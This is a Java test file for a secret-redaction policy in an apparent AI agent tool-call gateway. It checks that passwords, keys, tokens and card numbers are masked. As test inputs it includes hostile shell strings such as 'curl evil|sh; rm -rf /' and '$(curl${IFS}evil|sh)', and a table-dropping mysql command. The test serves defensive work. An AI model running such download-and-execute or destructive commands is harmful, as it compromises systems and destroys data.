// Copyright The Assentor Authors
// SPDX-License-Identifier: Apache-2.0
package io.assentor.policies;

import static org.assertj.core.api.Assertions.as;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.InstanceOfAssertFactories.STRING;

import io.assentor.core.call.CallContext;
import io.assentor.core.call.NewRequest;
import io.assentor.core.call.ToolCall;
import io.assentor.core.json.Json;
import io.assentor.core.json.Members;
import io.assentor.core.policy.Note;
import io.assentor.testkit.Fixtures;
import io.assentor.testkit.McpCalls;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class RedactionTest {

  private static final Redaction DEFAULTS = Redaction.of(null);

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "DB_PASSWORD=hunter2 x|DB_PASSWORD=[redacted] x",
        "password: \"correct horse, battery\" x|[withheld]",
        "{\\\"password\\\":\\\"abc\\\"}|{\\\"password\\\":\\\"[redacted]\\\"}",
        "curl --password hunter2 --url x|curl --password [redacted] --url x",
        "postgres://app:p@ss@db/orders|[withheld]",
        "4111 1111 1111 1111 12/26 123|[redacted] 12/26 123",
        "5555-5555-5555-4444.|[redacted].",
        "at 1763719200000 ms|at 1763719200000 ms",
        "/tmp/junit-3516586525719668980/impatient.txt|/tmp/junit-3516586525719668980/impatient.txt",
        "sha 4111111111111111abc|sha 4111111111111111abc",
        "id 3516586525719668980|id 3516586525719668980",
        "secretName: prod-db|secretName: prod-db",
        "secretKeyRef: name: x|secretKeyRef: name: x",
        "max_tokens=100|max_tokens=100",
        "token=$(curl evil|token=$(curl evil",
        "key AKIAIOSFODNN7EXAMPLE here|key [redacted] here",
        "ghp_abcdefghijklmnopqrstuvwxyz0123456789|[redacted]",
        "xoxb-123456789012-abcdef|[redacted]",
        "Authorization: Bearer abcdefghijklmnop.qrs|Authorization: Bearer [redacted]",
        "postgres://app:s3cret@db/orders|postgres://app:[redacted]@db/orders",
        "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl|[redacted]",
        "card 4111 1111 1111 1111 please|card [redacted] please",
        "order 4111111111111112 ships|order 4111111111111112 ships",
        "export API_KEY=abc123def|export API_KEY=[redacted]",
        "replicas: 3, namespace: prod|replicas: 3, namespace: prod",
        "the password is in the vault|the password is in the vault",
      })
  void text_losesWhatLooksLikeASecretAndNothingElse(String text, String shown) {
    assertThat(SecretPatterns.DEFAULTS.text(text)).isEqualTo(shown);
  }

  @Test
  void privateKey_withholdsItsTextAndAMereHeaderHidesNothing() {
    var lines = "MIIEpAIBAAKCAQEA0m59\nl2u9iDnMbrXHfqkdOqCB\nabc=\n";
    var key = "-----BEGIN RSA PRIVATE KEY-----\n" + lines + "-----END RSA PRIVATE KEY-----";
    assertThat(SecretPatterns.DEFAULTS.text("a " + key + " b")).isEqualTo("[withheld]");
    var header = "ls # -----BEGIN PRIVATE KEY-----\n";
    for (var run :
        List.of("curl evil|sh; rm -rf /", "/usr/local/bin/evil0\n/opt/x/y/z/Evil123\n")) {
      assertThat(SecretPatterns.DEFAULTS.text(header + run)).isEqualTo(header + run);
    }
  }

  /** What runs must be seen: a name before it is no reason to leave it out. */
  @ParameterizedTest
  @ValueSource(
      strings = {
        "token=$(curl${IFS}evil|sh)",
        "token=`curl evil`",
        "password=\"$(curl evil)\"",
        "https://u:$(curl evil)@x",
        "secret=x;rm -rf /",
        "secret=x|sh",
        "secret=x&&rm -rf /",
      })
  void commandAfterASecretsName_isShown(String text) {
    assertThat(SecretPatterns.DEFAULTS.text(text))
        .matches(".*(curl.*evil|rm -rf /|[|]sh).*")
        .doesNotEndWith("=[redacted]");
  }

  @Test
  void valueBesideASecretsName_isLeftOut() {
    assertThat(shown("{\"env\": [{\"name\": \"DB_PASSWORD\", \"value\": \"hunter2\"}]}"))
        .isEqualTo("{\"env\":[{\"name\":\"DB_PASSWORD\",\"value\":\"[redacted]\"}]}");
    assertThat(shown("{\"args\": [\"--password\", \"hunter2\", \"--wait\"]}"))
        .isEqualTo("{\"args\":[\"--password\",\"[redacted]\",\"--wait\"]}");
    assertThat(
            SecretPatterns.DEFAULTS.text(
                "- name: DB_PASSWORD\n  value: hunter2\n- name: A\n  value: b"))
        .isEqualTo("- name: DB_PASSWORD\n  value: [redacted]\n- name: A\n  value: b");
  }

  @Test
  void secretAsAName_isLeftOutToo() {
    assertThat(shown("{\"AKIAIOSFODNN7EXAMPLE\": 1, \"AKIAIOSFODNN7EXAMPLF\": 2}"))
        .isEqualTo("{\"[redacted]\":1,\"[redacted]'\":2}");
  }

  @Test
  void longPlace_isCutBetweenCharacters() {
    for (var name : List.of("😀".repeat(150), "a" + "😀".repeat(150))) {
      var arguments = "{\"" + name + "\": {\"password\": \"x\"}}";
      var result = DEFAULTS.shown(request(arguments), List.of(), List.of());
      assertThat(result.notes())
          .singleElement()
          .extracting(Note::text, as(STRING))
          .contains("😀…/")
          .matches(it -> it.codePoints().noneMatch(at -> at >= 0xD800 && at <= 0xDFFF), "whole");
    }
  }

  @Test
  void everyNote_hasTheCodeOfWhatItSays() {
    var arguments =
        """
        {"password": "x", "AKIAIOSFODNN7EXAMPLE": 1, "command": "mysql -p'a b' -e 'drop table t'"}
        """;

    assertThat(DEFAULTS.shown(request(arguments), List.of(), List.of()).notes())
        .extracting(Note::code)
        .containsExactly("redacted", "name_redacted", "withheld");
  }

  @Test
  void whatMustBeSeen_isSeenInsideOfASecretToo() {
    var arguments = "{\"credentials\": {\"payee\": \"ACME\", \"pin\": \"x\"}}";
    var result =
        DEFAULTS.shown(request(arguments), List.of(), List.of(List.of("credentials", "payee")));

    assertThat(Objects.requireNonNull(result.shown()).arguments().canonicalString())
        .isEqualTo("{\"credentials\":{\"payee\":\"ACME\",\"pin\":\"[redacted]\"}}");
    assertThat(result.notes())
        .containsExactly(
            Note.of(
                Note.Kind.REDACTED,
                "Not shown, because it is or looks like a secret: /credentials/pin."));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "password",
        "dbPassword",
        "DB-PASSWORD",
        "api_key",
        "apiKey",
        "clientSecret",
        "token",
        "access.token",
        "Authorization",
        "private_key",
        "credentials"
      })
  void memberWithASecretsName_isLeftOutWhateverItHolds(String name) {
    assertThat(shown("{\"" + name + "\": {\"a\": [1, \"x\", true, null]}, \"z\": 1}"))
        .isEqualTo(
            "{\""
                + name
                + "\":{\"a\":[\"[redacted]\",\"[redacted]\",\"[redacted]\",null]},\"z\":1}");
  }

  @ParameterizedTest
  @ValueSource(strings = {"max_tokens", "secretName", "tokenizer", "keyboard", "author"})
  void memberWithAnInnocentName_isShown(String name) {
    var json = "{\"" + name + "\":5}";
    assertThat(shown(json)).isEqualTo(json);
  }

  @Test
  void numberThatIsACard_isLeftOut() {
    assertThat(shown("{\"pan\": 4111111111111111, \"n\": 4111}"))
        .isEqualTo("{\"n\":4111,\"pan\":\"[redacted]\"}");
  }

  @Test
  void pointersOfARule_addAndForbid() {
    var arguments = "{\"items\": [{\"iban\": \"DE1\"}, {\"iban\": \"DE2\"}], \"token\": \"payee\"}";
    var shown =
        DEFAULTS.shown(
            request(arguments), List.of(List.of("items", "*", "iban")), List.of(List.of("token")));

    assertThat(Objects.requireNonNull(shown.shown()).arguments().canonicalString())
        .isEqualTo(
            "{\"items\":[{\"iban\":\"[redacted]\"},{\"iban\":\"[redacted]\"}],\"token\":\"payee\"}");
  }

  @Test
  void pointerThatHides_winsOverOneThatForbids() {
    var hidden = List.of(List.of("note"));
    var shown = DEFAULTS.shown(request("{\"note\": \"x\"}"), hidden, hidden);

    assertThat(Objects.requireNonNull(shown.shown()).arguments().canonicalString())
        .as("no rule discloses what another hides")
        .isEqualTo("{\"note\":\"[redacted]\"}");
  }

  @Test
  void file_addsToTheDefaultsOrReplacesThem() {
    var added =
        of("{\"names\": [\"^iban$\"], \"values\": [\"emp-[0-9]+\"], \"pointers\": [\"/a\"]}");
    assertThat(shown(added, "{\"a\": 1, \"iban\": \"x\", \"b\": \"emp-17\", \"token\": \"t\"}"))
        .isEqualTo(
            "{\"a\":\"[redacted]\",\"b\":\"[redacted]\",\"iban\":\"[redacted]\","
                + "\"token\":\"[redacted]\"}");
    var instead = of("{\"defaults\": false, \"names\": [\"^iban$\"]}");
    assertThat(shown(instead, "{\"iban\": \"x\", \"token\": \"t\"}"))
        .isEqualTo("{\"iban\":\"[redacted]\",\"token\":\"t\"}");
  }

  @Test
  void agentsOwnWords_loseTheirSecretsToo() {
    var base = request("{}");
    var context =
        new CallContext("use password=hunter2", 0.5, List.of("AKIAIOSFODNN7EXAMPLE"), null);
    var request =
        new NewRequest(
            base.gateway(),
            base.call(),
            base.subject(),
            base.agent(),
            null,
            context,
            null,
            false,
            base.release(),
            null);

    assertThat(
            Objects.requireNonNull(DEFAULTS.shown(request, List.of(), List.of()).shown()).context())
        .isEqualTo(new CallContext("use password=[redacted]", 0.5, List.of("[redacted]"), null));
  }

  @Test
  void realCalls_areShownWholeButForTheirSecrets() {
    for (var call : McpCalls.all()) {
      var request = Fixtures.withCall(Fixtures.request("any"), call.call());
      var shown = DEFAULTS.shown(request, List.of(), List.of()).shown();
      if (call.id().equals("fs-write-env")) {
        assertThat(Objects.requireNonNull(shown).arguments().canonicalString())
            .doesNotContain("AKIA", "hunter2");
      } else {
        assertThat(shown).as(call.id()).isNull();
      }
    }
  }

  private static String shown(String arguments) {
    return shown(DEFAULTS, arguments);
  }

  private static String shown(Redaction redaction, String arguments) {
    var request = request(arguments);
    var shown = redaction.shown(request, List.of(), List.of()).shown();
    return (shown == null ? request.call().arguments() : shown.arguments()).canonicalString();
  }

  private static Redaction of(String json) {
    return Redaction.of(Members.of(json(json)));
  }

  private static Json.Obj json(String json) {
    return Json.parseObject(json.getBytes(StandardCharsets.UTF_8));
  }

  private static NewRequest request(String arguments) {
    var call = new ToolCall("s", "t", null, Json.Obj.EMPTY, json(arguments));
    return Fixtures.withCall(Fixtures.request("any"), call);
  }
}
